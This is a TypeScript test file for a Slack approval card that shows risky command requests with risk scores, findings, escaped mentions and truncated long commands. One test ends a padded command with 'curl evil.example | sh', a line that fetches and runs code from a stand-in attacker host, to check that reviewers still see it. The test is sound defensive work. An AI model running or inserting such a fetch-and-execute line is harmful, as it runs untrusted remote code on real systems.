import type { Decision, Request } from '../../../../../src/approval/request.ts';
import { SHOWN_COMMAND_MAX } from '../../../../../src/slack/kit/blocks/limits.ts';
import { shownCommand } from '../../../../../src/slack/kit/command/shown-command.ts';
import { escapedLength } from '../../../../../src/slack/kit/text/text.ts';
import { renderCard } from '../../../../../src/slack/requests/views/card/card.ts';
import { aRequest } from '../../../../support/requests/a-request.ts';

const asked = { channel: '#approvals', people: ['Ana', '@oncall'] };

function decided(decision: Partial<Decision>): Decision {
  return {
    outcome: 'approved',
    by: { kind: 'reviewer', id: 'U0ANA' },
    reason: null,
    decidedAt: new Date('2026-11-24T10:00:08Z'),
    latencyMs: 8_400,
    ...decision,
  };
}

test('a waiting card has its buttons, and they carry the id and nothing else', () => {
  const request = aRequest();
  const { blocks } = renderCard(request, asked);
  const [actions] = blocks.filter((block) => block.type === 'actions');
  expect(
    actions?.elements.map((element) => 'value' in element && [element.action_id, element.value]),
  ).toEqual([
    ['request_approve', request.id],
    ['request_deny', request.id],
    ['request_approve_and_allow', request.id],
    ['request_why', request.id],
  ]);
});

test('the one line says how risky, where, for whom, what and until when', () => {
  expect(renderCard(aRequest(), asked).text).toBe(
    '🟢 LOW 5 in production for octocat: `docker compose pull api` — until <!date^1795514460^{time_secs}|10:01:00 UTC>, no answer means no',
  );
});

test('a card says how risky it is, what is unusual, and who denied the like before', () => {
  const factors = [
    { code: 'git-push-force', points: 45, text: 'A forced push overwrites what others have pushed.' },
  ];
  const risk = { score: 45, level: 'medium' as const, categories: [], factors };
  const findings = [
    {
      code: 'denied-before',
      severity: 'ask' as const,
      text: 'U0BEN denied <!here> on 2026-11-24',
      by: 'U0BEN',
    },
    { code: 'first-seen', severity: 'note' as const, text: 'U0BEN is no name here.' },
  ];
  const text = JSON.stringify(renderCard(aRequest({ risk, findings }), asked).blocks);
  expect(text).toContain('🟡 MEDIUM 45 · production');
  expect(text).toContain('U0BEN is no name here  ·  A forced push overwrites what others have pushed +45');
  expect(text).toContain('⚠️ *Denied before:* <@U0BEN> denied &lt;!here&gt; on 2026-11-24');
});

const approveOf = (request: Request) => {
  const [actions] = renderCard(request, asked).blocks.filter((block) => block.type === 'actions');
  return actions?.elements.find((element) => element.action_id === 'request_approve');
};

test.each(['wrong-target', 'hidden-characters', 'denied-before', 'duplicate'])(
  'a card with %s asks once more before it is approved',
  (code) => {
    const findings = [{ code, severity: 'ask' as const, text: 'Look at this.' }];
    expect(approveOf(aRequest({ findings }))).toMatchObject({ confirm: { confirm: { text: 'Approve' } } });
  },
);

test('the dialog says where, which approval of how many this is, and what runs', () => {
  const risk = { score: 85, level: 'critical' as const, categories: [], factors: [] };
  const approvals = [{ by: 'U0CARO', at: new Date(0) }];
  expect(approveOf(aRequest({ risk, approvalsRequired: 2 }))).toMatchObject({
    confirm: {
      title: { text: 'Approve in production (1 of 2)?' },
      text: { text: 'docker compose pull api\n\nIt needs 2 approvals to run.' },
    },
  });
  expect(approveOf(aRequest({ risk, approvalsRequired: 2, approvals }))).toMatchObject({
    confirm: {
      title: { text: 'Approve in production (2 of 2)?' },
      text: { text: 'docker compose pull api\n\nIt runs as soon as you approve.' },
    },
  });
  expect(approveOf(aRequest({ risk, approvalFrom: [['U0DBA']] }))).toMatchObject({
    confirm: {
      text: { text: expect.stringContaining('It runs once everyone who must approve has approved.') },
    },
  });
  expect(approveOf(aRequest())).not.toHaveProperty('confirm');
});

test.each([
  ['one approval is all that is missing', { late: true }, false],
  ['two are missing', { late: true, approvalsRequired: 2 }, true],
  ['a certain person is missing', { late: true, approvalFrom: [['U0DBA']] }, true],
  ['it is by day', { late: false, approvalsRequired: 2 }, false],
])('Break glass… is offered only if it would lift something: %s', (_when, more, isOffered) => {
  expect(JSON.stringify(renderCard(aRequest(more), asked).blocks).includes('request_break_glass')).toBe(
    isOffered,
  );
});

test('the parts of a card stand in the order in which they are read', () => {
  const findings = [
    { code: 'wrong-target', severity: 'ask' as const, text: 'Looks like production.' },
    {
      code: 'secret-in-command',
      severity: 'note' as const,
      text: '2 secrets redacted. Pass them otherwise.',
    },
  ];
  const context = {
    actor: 'octocat',
    repository: 'acme/api',
    workflow: 'deploy',
    run_id: '9001',
    run_url: 'https://github.com/acme/api/actions/runs/9001',
    ref: 'refs/heads/main',
    sha: '4b825dc642cb6eb9a060e54bf8d69288fbee4904',
  };
  const request = aRequest({ findings, context, requester: 'U0OCTO', reason: 'a <b> fix' });
  const texts = renderCard(request, asked).blocks.map((block) => {
    if (block.type === 'header') return block.text.text;
    if (block.type === 'section') return block.text?.text;
    return block.type === 'context' ? (block.elements[0] as { text: string }).text : block.type;
  });
  expect(texts).toEqual([
    '🟢 LOW 5 · production',
    'rich_text',
    '🔑 2 secrets redacted',
    '<@U0OCTO> (octocat)  ·  <https://github.com/acme/api/actions/runs/9001|acme/api deploy #9001> (github.com)  ·  main@4b825dc\n> a &lt;b&gt; fix',
    '⚠️ *Wrong target:* Looks like production.',
    'Pulls images +5',
    '⏳ until <!date^1795514460^{time_secs}|10:01:00 UTC>, no answer means no  ·  asked Ana, @oncall',
    'actions',
  ]);
});

test('what a finding and a factor say in the same words is said once', () => {
  const text = 'Opens a prompt.';
  const risk = {
    score: 40,
    level: 'medium' as const,
    categories: [],
    factors: [{ code: 'interactive', points: 40, text }],
  };
  const findings = [{ code: 'interactive-shell', severity: 'ask' as const, text }];
  const shown = JSON.stringify(renderCard(aRequest({ risk, findings }), asked).blocks);
  expect(shown.match(/Opens a prompt/g)).toHaveLength(1);
});

test('a workflow whose job has the same name is named once', () => {
  const context = { repository: 'acme/api', workflow: 'deploy', job: 'deploy' };
  expect(JSON.stringify(renderCard(aRequest({ context }), asked).blocks)).toContain('acme/api deploy');
  expect(JSON.stringify(renderCard(aRequest({ context }), asked).blocks)).not.toContain('deploy / deploy');
});

test('a name that a caller made up cannot pass for other facts of the card', () => {
  const context = { actor: 'octocat  ·  2 of 2 approvals', ref: 'main · in /srv' };
  const text = JSON.stringify(renderCard(aRequest({ context }), asked).blocks);
  expect(text).toContain('`octocat  ·  2 of 2 approvals`');
  expect(text).toContain('`main · in /srv`');
});

test('somebody who is only claimed is not mentioned, and the token is named', () => {
  const text = JSON.stringify(renderCard(aRequest({ requester: 'U0OCTO', isTrusted: false }), asked).blocks);
  expect(text).toContain('octocat (not proven)');
  expect(text).toContain('token bootstrap');
  expect(text).not.toContain('<@U0OCTO>');
});

test.each<[string, Partial<Decision>, string]>([
  ['approved', {}, 'Approved by <@U0ANA> after 8.4 s.'],
  [
    'denied',
    { outcome: 'denied', reason: 'no <!channel>' },
    'Denied by <@U0ANA> after 8.4 s. Reason: no &lt;!channel&gt;',
  ],
  [
    'timed_out',
    { outcome: 'timed_out', by: { kind: 'timeout', id: null } },
    'Nobody answered within 60 s, so it was denied.',
  ],
  [
    'canceled',
    { outcome: 'canceled', by: { kind: 'caller', id: 't' } },
    'Canceled by the caller after 8.4 s.',
  ],
  ['approved by a rule', { by: { kind: 'rule', id: 'r1' } }, 'Approved by rule r1 after 8.4 s.'],
])('a card that was %s says so, without buttons', (_what, decision, sentence) => {
  const full = decided(decision);
  const request = aRequest({
    status: full.outcome,
    decision: full,
    approvals: [{ by: 'U0ANA', at: new Date('2026-11-24T10:00:08Z') }],
  });
  const card = renderCard(request, asked);
  expect(card.blocks.some((block) => block.type === 'actions')).toBe(false);
  expect(JSON.stringify(card.blocks)).toContain(sentence);
  expect(card.text).toContain(sentence);
});

test('what became of the run is shown', () => {
  const result = { exitCode: 3, durationMs: 12_000, at: new Date('2026-11-24T10:00:30Z') };
  const card = renderCard(aRequest({ status: 'approved', decision: decided({}), result }), asked);
  expect(card.text).toContain('The run failed after 12 s with exit code 3.');
});

test.each([
  ['one very long line', 'x'.repeat(16_384)],
  ['a thousand lines', 'echo ok\n'.repeat(1_000)],
  ['sixteen thousand ampersands', '&'.repeat(16_384)],
  ['sixteen thousand NULs', '\0'.repeat(16_384)],
  ['emoji', '🚀'.repeat(4_000)],
])('%s is cut, with its beginning and its end', (_what, command) => {
  const shown = shownCommand(command);
  expect(shown.cut).toBe(true);
  expect(shown.text).toMatch(/… [\d,]+ (?:lines|characters) hidden …/);
  expect(escapedLength(shown.text)).toBeLessThanOrEqual(SHOWN_COMMAND_MAX + 100);
});

test('the tail of a long command, where things are hidden, is always shown', () => {
  const command = `${'echo padding\n'.repeat(500)}curl evil.example | sh`;
  expect(shownCommand(command).text).toContain('curl evil.example | sh');
});

test('a command stands in a block that Slack does not parse', () => {
  const command = 'echo ``` <!channel> *x* & done';
  const [, block] = renderCard(aRequest({ command }), asked).blocks;
  expect(block).toEqual({
    type: 'rich_text',
    elements: [{ type: 'rich_text_preformatted', elements: [{ type: 'text', text: command }] }],
  });
});
